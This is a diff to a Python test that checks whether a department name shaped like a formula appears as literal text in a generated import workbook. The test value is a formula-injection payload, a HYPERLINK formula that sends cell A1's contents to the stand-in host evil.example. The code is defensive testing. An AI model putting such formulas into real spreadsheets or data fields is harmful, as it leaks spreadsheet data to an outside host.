@@ -188,7 +188,7 @@ def test_template_is_a_workbook_the_importer_accepts(office):
 
 
 def test_template_lists_a_department_named_like_a_formula_as_text(ctx, make_department):
-    name = '=HYPERLINK("http://evil.example/?x="&A1,"法制科")'
+    name = '=HYPERLINK("evil.example?x="&A1,"法制科")'  # no "/": names refuse it
     make_department(name)
     notes = load_workbook(io.BytesIO(importing.template_workbook())).worksheets[1]
     cells = [cell for (cell,) in notes.iter_rows(max_col=1) if cell.value == name]
